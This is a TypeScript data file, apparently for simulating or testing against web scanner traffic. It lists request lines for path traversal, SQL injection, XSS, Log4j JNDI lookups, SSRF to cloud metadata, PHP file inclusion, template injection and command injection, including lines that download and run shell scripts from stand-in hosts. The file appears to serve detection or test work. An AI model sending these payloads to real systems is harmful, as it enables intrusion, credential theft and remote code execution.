import { BORROWED, BROWSERS, LIBRARIES } from './agents.ts';
import { scan } from './kind.ts';

/** Scanners that send an attack with the request, often to pages that exist. */
export const ATTACK_SCANS = [
  scan(
    'path traversal',
    { on: ['board.example', 'shop.example'], agents: BORROWED, pace: 0.5, answer: 400 },
    `
    GET /download.php?file=../../../../etc/passwd 200
    GET /index.php?page=..%2f..%2f..%2f..%2fetc%2fpasswd 200
    GET /static/../../../../etc/passwd
    GET /..%5c..%5c..%5cwindows%5cwin.ini
    GET /%2e%2e/%2e%2e/%2e%2e/etc/shadow
    GET /images/..%252f..%252f..%252fproc/self/environ 404
    GET /download?name=....//....//....//etc/hosts 404
    GET /assets/..;/..;/WEB-INF/web.xml 404`,
  ),
  scan(
    'programs behind cgi-bin',
    {
      on: ['api.example', 'news.example'],
      agents: ['', 'Custom-AsyncHttpClient', 'libredtail-http'],
      pace: 1,
    },
    `
    POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh 400
    POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh 400
    GET /cgi-bin/test.cgi
    GET /cgi-bin/status
    GET /cgi-bin/php5
    GET /cgi-bin/printenv.pl
    POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input
    POST /php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0`,
  ),
  scan(
    'SQL injection into pages that exist',
    { on: ['shop.example', 'board.example'], agents: BROWSERS, pace: 0.5, answer: 200, clients: 3 },
    `
    GET /products?id=7%27
    GET /products?id=7%20AND%201=1--%20-
    GET /products?id=7%20AND%201=2--%20-
    GET /products?id=7%27%20ORDER%20BY%2010--%20- 500
    GET /products?id=-7%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x7178,version())--%20-
    GET /products?id=7;WAITFOR%20DELAY%20%270:0:5%27--
    GET /products?id=7)%20AND%20SLEEP(5)%20AND%20(1=1
    GET /products?id=7%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,database())) 500
    GET /products?id=(SELECT%20(CASE%20WHEN%20(1=1)%20THEN%207%20ELSE%200%20END))
    GET /products?id=7'||(SELECT+pg_sleep(5))||' 500`,
  ),
  scan(
    'scripts in parameters',
    { on: ['news.example', 'shop.example'], agents: BROWSERS, pace: 1, answer: 200 },
    `
    GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E
    GET /search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.domain)%3E
    GET /search?q=%3Csvg/onload=alert(1)%3E
    GET /search?q=javascript:alert(1)//
    GET /?lang=%22%3E%3Cscript%3Eprompt(1)%3C/script%3E
    GET /search?q=%27-alert(1)-%27`,
  ),
  scan(
    'lookup in Log4j',
    {
      on: ['api.example', 'spa.example', 'clinic.example'],
      agents: LIBRARIES,
      pace: 2,
      answer: 404,
      clients: 3,
    },
    `
    GET /?x=\${jndi:ldap://192.0.2.55:1389/a} 200
    GET /$%7Bjndi:ldap://192.0.2.55/b%7D
    GET /login?user=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F192.0.2.55%2Fc%7D
    GET /api/v1/search?q=\${\${::-j}ndi:rmi://192.0.2.55/d} 200`,
  ),
  scan(
    'requests made by the server',
    { on: ['notes.example', 'spa.example'], agents: BROWSERS, pace: 2 },
    `
    GET /_next/image?url=http://169.254.169.254/latest/meta-data/&w=64&q=75 400
    GET /proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/
    GET /api/fetch?target=http://metadata.google.internal/computeMetadata/v1/
    GET /proxy?url=file:///etc/passwd
    GET /api/proxy?url=gopher://127.0.0.1:6379/_INFO`,
  ),
  scan(
    'streams of PHP',
    { on: ['board.example'], agents: BORROWED, pace: 1, answer: 200 },
    `
    GET /index.php?page=php://filter/convert.base64-encode/resource=config
    GET /index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==
    GET /index.php?page=expect://id
    GET /index.php?page=http://192.0.2.60/shell.txt?
    GET /index.php?page=/proc/self/environ%00`,
  ),
  scan(
    'commands in parameters',
    { on: ['board.example', 'api.example'], agents: BORROWED, pace: 1 },
    `
    GET /ping?host=127.0.0.1;cat+/etc/passwd
    GET /index.php?cmd=id 200
    GET /?exec=wget+http://192.0.2.61/x.sh+-O-|sh 200
    GET /tools/ping?ip=\`id\`
    GET /cgi-bin/view.sh?x=;curl+http://192.0.2.61/a|bash
    GET /admin?c=%7Cwhoami`,
  ),
  scan(
    'template injection',
    { on: ['notes.example', 'shop.example'], agents: LIBRARIES, pace: 1, answer: 200 },
    `
    GET /search?q={{7*7}}
    GET /search?q=\${7*7}
    GET /search?q=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D
    GET /hello?name=<%=%207*7%20%>
    GET /search?q=#{7*7}
    GET /search?q=%7B%7Brequest.application.__globals__.__builtins__%7D%7D`,
  ),
  scan(
    'files through a development server',
    { on: ['spa.example', 'notes.example'], agents: BROWSERS, pace: 1 },
    `
    GET /@fs/etc/passwd?import&raw??
    GET /@fs/root/.aws/credentials?raw??
    GET /@fs/app/.env?import&url&inline=1.wasm?init
    GET /@fs/proc/self/environ?raw??
    GET /__webpack_hmr/../../../etc/passwd
    GET /public/plugins/alertlist/../../../../../../../../etc/passwd 400`,
  ),
  scan(
    'a PHP object in a parameter',
    { on: ['board.example', 'press.example'], agents: BORROWED, pace: 2, answer: 200 },
    `
    GET /index.php?data=O:8:%22stdClass%22:1:{s:1:%22a%22;s:2:%22id%22;}
    GET /?unserialize=a:1:{i:0;O:21:%22JDatabaseDriverMysqli%22:3:{}}
    GET /index.php?x=%3C?php%20system($_GET[%27c%27]);?%3E
    GET /?%3C?=phpinfo()?%3E`,
  ),
];
